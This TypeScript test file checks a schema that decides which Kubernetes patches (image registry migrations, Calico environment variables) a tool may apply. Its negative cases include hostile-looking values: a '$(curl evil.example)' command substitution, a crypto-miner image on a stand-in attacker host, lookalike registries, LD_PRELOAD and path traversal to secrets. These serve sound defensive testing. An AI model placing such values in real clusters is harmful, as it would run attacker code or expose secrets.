import { describe, expect, test } from 'vitest';
import { clusterActionSchema } from '../cluster-action-kinds.ts';

const path = '/spec/template/spec/containers/0/image';
const from = 'k8s.gcr.io/pause:3.2';
const to = 'registry.k8s.io/pause:3.2';

const action = {
  kind: 'object-patch',
  id: 'object-patch:team/Deployment/web',
  problem: 'image-pull',
  cures: ['0123456789ab'],
  why: { key: 'why', params: {} },
  disrupts: 'restart',
  object: { kind: 'Deployment', group: 'apps', version: 'v1', resource: 'deployments', namespace: 'team', name: 'web' },
  uid: 'u-1',
  changes: [{ path, from, to }],
};

function isTaken(change: object): boolean {
  // As a file has it: what is undefined is not there.
  return clusterActionSchema.safeParse(JSON.parse(JSON.stringify({ ...action, ...change }))).success;
}

test('an action as it is planned', () => {
  expect(clusterActionSchema.parse(action)).toEqual(action);
});

test.each([
  ['what the line says', 'docker.io/bitnami', 'docker.io/bitnamilegacy', true],
  ['another image than the line says', 'docker.io/bitnami', 'docker.io/other', false],
  ['an image that the line is not about', 'docker.io/library', 'docker.io/bitnamilegacy', false],
  // A table may have none of these: what it writes would be replaced again, or is nothing that a reference begins with.
  ['a line that is wrong itself', 'bitnami', 'bitnamilegacy', false],
])('a line of the user’s table: %s', (_name, table, moved, taken) => {
  const change = { path, from: 'bitnami/redis:7', to: 'bitnamilegacy/redis:7' };
  expect(isTaken({ changes: [change] })).toBe(false);
  expect(isTaken({ changes: [{ ...change, replacement: { from: table, to: moved } }] })).toBe(taken);
});

test.each([
  '/metadata/uid',
  '/metadata/labels/a',
  '/metadata/containers/0/image',
  '/status/containers/0/image',
  '/kind',
  '',
  'spec/containers/0/image',
  '/spec/~2/containers/0/image',
  '/spec/template/spec/serviceAccountName',
  '/spec/template/spec/containers/0/command/0',
  '/spec/template/spec/containers/0/env/0/value',
  '/spec/template/spec/containers/image',
  '/spec/replicas',
])('never the field %j', (elsewhere) => {
  expect(isTaken({ changes: [{ path: elsewhere, from, to }] })).toBe(false);
});

test.each([
  '/spec/jobTemplate/spec/template/spec/initContainers/12/image',
  '/template/spec/ephemeralContainers/0/image',
  '/spec/template/spec/volumes/3/image/reference',
  '/spec/a~1b/containers/0/image',
])('the field %j', (elsewhere) => {
  expect(isTaken({ changes: [{ path: elsewhere, from, to }] })).toBe(true);
});

test.each<readonly [string, unknown, unknown]>([
  ['an undo that brings an image of its own', 'evil.example/miner:1', to],
  ['an image that has no successor', from, 'evil.example/pause:3.2'],
  ['the successor of another one', from, 'registry.k8s.io/coredns:1'],
  ['the same one', from, from],
  ['a successor that looks like one', 'k8s.gcr.io.evil.example/pause:3.2', to],
  ['no text', 1, 2],
])('never the values of %s', (_what, before, after) => {
  expect(isTaken({ changes: [{ path, from: before, to: after }] })).toBe(false);
});

test.each<readonly [string, string]>([
  ['gcr.io/google_containers/pause:3.2', to],
  ['docker.pkg.github.com/Owner/repo/image:1', 'ghcr.io/owner/repo/image:1'],
  ['docker.pkg.github.com/Owner/repo/image:1', 'ghcr.io/owner/image:1'],
])('%s becomes %s', (before, after) => {
  expect(isTaken({ changes: [{ path, from: before, to: after }] })).toBe(true);
});

describe('of the provider’s own objects, the network’s images alone', () => {
  const network = (kind: 'DaemonSet' | 'Deployment', name: string, more: object = {}): object => ({
    id: `object-patch:kube-system/${kind}/${name}`,
    object: { ...action.object, kind, resource: `${kind.toLowerCase()}s`, namespace: 'kube-system', name, ...more },
  });
  const becomes = (before: string, after: string, at = path) => ({
    changes: [{ path: at, from: before, to: after }],
  });
  const flannel = network('DaemonSet', 'kube-flannel-ds-amd64');
  const toFlannel = becomes('quay.io/coreos/flannel:v0.15.1-amd64', 'ghcr.io/flannel-io/flannel:v0.15.1');
  const node = network('DaemonSet', 'calico-node');
  const initPath = '/spec/template/spec/initContainers/0/image';
  const cni = 'docker.io/calico/cni:v3';
  const inItsOwn = (object: object): object => ({
    id: 'object-patch:kube-flannel/DaemonSet/kube-flannel-ds-amd64',
    object: { ...('object' in object ? (object.object as object) : {}), namespace: 'kube-flannel' },
  });
  const toNode = becomes('calico-node:v3.24.1', 'docker.io/calico/node:v3.24.1');

  test.each<readonly [string, object, object]>([
    ['Flannel’s', flannel, toFlannel],
    [
      'those of init containers',
      flannel,
      becomes(
        'quay.io/coreos/flannel-cni:v0.3.0',
        'ghcr.io/flannel-io/flannel-cni:v0.3.0',
        '/spec/template/spec/initContainers/0/image',
      ),
    ],
    ['calico-node’s', node, toNode],
    ['calico-node’s, of CNI', node, becomes('docker.io/library/calico-cni:v3', 'docker.io/calico/cni:v3')],
    [
      'calico-typha’s',
      network('Deployment', 'calico-typha'),
      becomes('calico-typha:v3.24.1', 'docker.io/calico/typha:v3.24.1'),
    ],
    [
      'calico-kube-controllers’',
      network('Deployment', 'calico-kube-controllers'),
      becomes('calico-kube-controllers:v3.24.1', 'docker.io/calico/kube-controllers:v3.24.1'),
    ],
  ])('%s', (_what, object, change) => {
    expect(isTaken({ ...object, ...change })).toBe(true);
  });

  test.each<readonly [string, object, object]>([
    ['another tag', node, becomes('calico-node:v3.24.1', 'docker.io/calico/node:v3.24.2')],
    ['another image of Calico’s', node, becomes('calico-node:v3.24.1', 'docker.io/calico/cni:v3.24.1')],
    ['somebody’s own', node, becomes('calico-node:v3.24.1', 'evil.example/calico/node:v3.24.1')],
    ['a repository that looks like it', node, becomes('calico-nodes:v3', 'docker.io/calico/node:v3')],
    ['the way back', node, becomes('docker.io/calico/node:v3', 'calico-node:v3')],
    ['no tag', node, becomes('calico-node', 'docker.io/calico/node:latest')],
    ['a digest', node, becomes(`calico-node@sha256:${'a'.repeat(64)}`, 'docker.io/calico/node:v3')],
    ['another retired image', node, becomes(from, to)],
    ['another retired image, of Flannel’s', flannel, becomes(from, to)],
    ['Flannel’s by a table', flannel, { changes: [{ path, from, to, replacement: { from: 'a', to: 'b' } }] }],
    ['an image of another object', network('DaemonSet', 'kube-proxy'), toNode],
    ['an object of that name, of another kind', network('Deployment', 'calico-node'), toNode],
    ['an object in another namespace', network('DaemonSet', 'calico-node', { namespace: 'team' }), toNode],
    ['a resource of another kind', network('DaemonSet', 'calico-node', { resource: 'secrets' }), toNode],
    ['another group', network('DaemonSet', 'calico-node', { group: 'example.test' }), toNode],
    [
      'an ephemeral container',
      node,
      becomes('calico-node:v3', 'docker.io/calico/node:v3', '/spec/template/spec/ephemeralContainers/0/image'),
    ],
    [
      'a place outside the template',
      node,
      becomes('calico-node:v3', 'docker.io/calico/node:v3', '/spec/a/containers/0/image'),
    ],
  ])('never %s', (_what, object, change) => {
    expect(isTaken({ ...object, ...change })).toBe(false);
  });

  test.each<readonly [string, object, object]>([
    ['Flannel', flannel, toFlannel],
    ['Flannel in its own namespace', inItsOwn(flannel), toFlannel],
    ['calico-node', node, toNode],
    [
      'one right image of two',
      node,
      { changes: [...toNode.changes, { path: initPath, from: 'calico-cni:v3', to: cni }] },
    ],
  ])('never a plan that leaves out that pods of %s start again', (_what, object, change) => {
    expect(isTaken({ ...object, ...change })).toBe(true);
    expect(isTaken({ ...object, ...change, disrupts: undefined })).toBe(false);
    expect(isTaken({ ...object, ...change, disrupts: 'reboot' })).toBe(false);
  });
});

const cluster = { kind: 'ClusterRole', group: 'rbac.authorization.k8s.io', version: 'v1', resource: 'clusterroles' };

test.each<readonly [string, object]>([
  ['a name that leads elsewhere', { object: { ...action.object, name: '../../secrets' } }],
  ['a namespace that leads elsewhere', { object: { ...action.object, namespace: '..' } }],
  ['a kind that is not the resource', { object: { ...action.object, resource: 'daemonsets' } }],
  ['an object that makes no pods', { object: { ...action.object, group: '', resource: 'secrets', kind: 'Secret' } }],
  ['a group of Kubernetes', { id: 'object-patch:ClusterRole/web', object: { ...cluster, name: 'web' } }],
  [
    'an object of the provider',
    {
      id: 'object-patch:kube-system/Deployment/web',
      object: { ...action.object, namespace: 'kube-system' },
    },
  ],
  ['an id of another object', { id: 'object-patch:team/Deployment/harmless' }],
  ['a node', { node: 'worker-1' }],
  ['no change', { changes: [] }],
  ['no uid', { uid: '' }],
])('refused: %s', (_what, change) => {
  expect(isTaken(change)).toBe(false);
});

test('a custom resource', () => {
  const object = {
    kind: 'Rollout',
    group: 'argoproj.io',
    version: 'v1',
    resource: 'rollouts',
    namespace: 'team',
    name: 'web',
  };
  expect(isTaken({ id: 'object-patch:team/Rollout/web', object })).toBe(true);
});

describe('the variables of calico-node', () => {
  const env = '/spec/template/spec/containers/0/env';
  const place = { group: 'apps', version: 'v1', resource: 'daemonsets', kind: 'DaemonSet' };
  const connectTime = { name: 'FELIX_BPFCONNECTTIMELOADBALANCING', value: 'Enabled' };
  const hostNat = { name: 'FELIX_BPFHOSTNETWORKEDNATWITHOUTCTLB', value: 'Disabled' };
  const both = [
    { path: `${env}/7`, from: null, to: connectTime },
    { path: `${env}/8`, from: null, to: hostNat },
  ];
  const variables = {
    id: 'object-patch:kube-system/DaemonSet/calico-node',
    object: { ...place, namespace: 'kube-system', name: 'calico-node' },
    changes: both,
  };

  test.each<readonly [string, object]>([
    ['both are new', {}],
    ['the one is changed, and the other new', { changes: [{ ...both[0], from: { ...connectTime, value: 'tcp' } }] }],
    [
      'where the operator puts it',
      {
        id: 'object-patch:calico-system/DaemonSet/calico-node',
        object: { ...variables.object, namespace: 'calico-system' },
      },
    ],
  ])('are taken: %s', (_what, change) => {
    expect(isTaken({ ...variables, ...change })).toBe(true);
  });

  const changed = (part: object): object => ({ changes: [{ ...both[0], ...part }] });

  test.each<readonly [string, object]>([
    ['another variable', changed({ to: { name: 'FELIX_BPFENABLED', value: 'Enabled' } })],
    ['another value', changed({ to: { ...connectTime, value: 'Disabled' } })],
    ['the value of the other one', changed({ to: { ...connectTime, value: 'TCP' } })],
    ['a value from elsewhere', changed({ to: { name: connectTime.name, valueFrom: {} } })],
    ['an undo to what Felix does not take', changed({ from: { ...connectTime, value: '$(curl evil.example)' } })],
    ['an undo to another variable', changed({ from: { name: 'LD_PRELOAD', value: 'TCP' } })],
    ['its removal', changed({ from: connectTime, to: null })],
    ['another field', changed({ path: '/spec/template/spec/containers/0/command/0' })],
    ['a field of an element', changed({ path: `${env}/7/value` })],
    ['a container of its beginning', changed({ path: '/spec/template/spec/initContainers/0/env/7' })],
    ['two containers', { changes: [both[0], { ...both[1], path: '/spec/template/spec/containers/1/env/8' }] }],
    ['one variable twice', { changes: [both[0], { ...both[0], path: `${env}/8` }] }],
    ['one place twice', { changes: [both[0], { ...both[1], path: `${env}/7` }] }],
    ['a gap between them', { changes: [both[0], { ...both[1], path: `${env}/9` }] }],
    ['an image beside them', { changes: [...both, { path, from, to }] }],
    ['pods that start again without being told', { disrupts: undefined }],
    ['another namespace', { ...variables, ...moved({ namespace: 'team' }) }],
    ['another DaemonSet', { ...variables, ...moved({ name: 'kube-proxy' }) }],
    ['another kind', { ...variables, ...moved({ kind: 'Deployment', resource: 'deployments' }) }],
  ])('refused: %s', (_what, change) => {
    expect(isTaken({ ...variables, ...change })).toBe(false);
  });

  function moved(part: Partial<typeof variables.object>): object {
    const object = { ...variables.object, ...part };
    return { id: `object-patch:${object.namespace}/${object.kind}/${object.name}`, object };
  }

  test('never the finalizers, or an image, of the same object under the same form', () => {
    expect(isTaken({ ...variables, changes: [{ path, from, to }] })).toBe(false);
    const finalizers = { path: '/metadata/finalizers', from: ['example.com/protected'], to: null };
    expect(isTaken({ ...variables, disrupts: undefined, changes: [...both, finalizers] })).toBe(false);
  });
});
